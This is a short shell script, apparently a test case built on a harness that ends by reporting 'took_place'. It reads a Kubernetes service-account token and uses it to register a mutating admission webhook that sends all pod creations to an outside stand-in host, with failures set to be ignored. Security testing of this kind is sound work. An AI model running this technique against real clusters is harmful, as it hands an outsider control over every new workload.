#!/bin/sh
. /opt/case/case.sh

token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
wget -q -O /tmp/answer --header "Authorization: Bearer $token" --header 'Content-Type: application/json' --post-data '{"kind":"MutatingWebhookConfiguration","metadata":{"name":"sidecar-injector"},"webhooks":[{"name":"i.example.net","clientConfig":{"url":"https://203.0.113.10/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"failurePolicy":"Ignore"}]}' http://10.77.0.1:6443/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations
test -s /tmp/answer
took_place
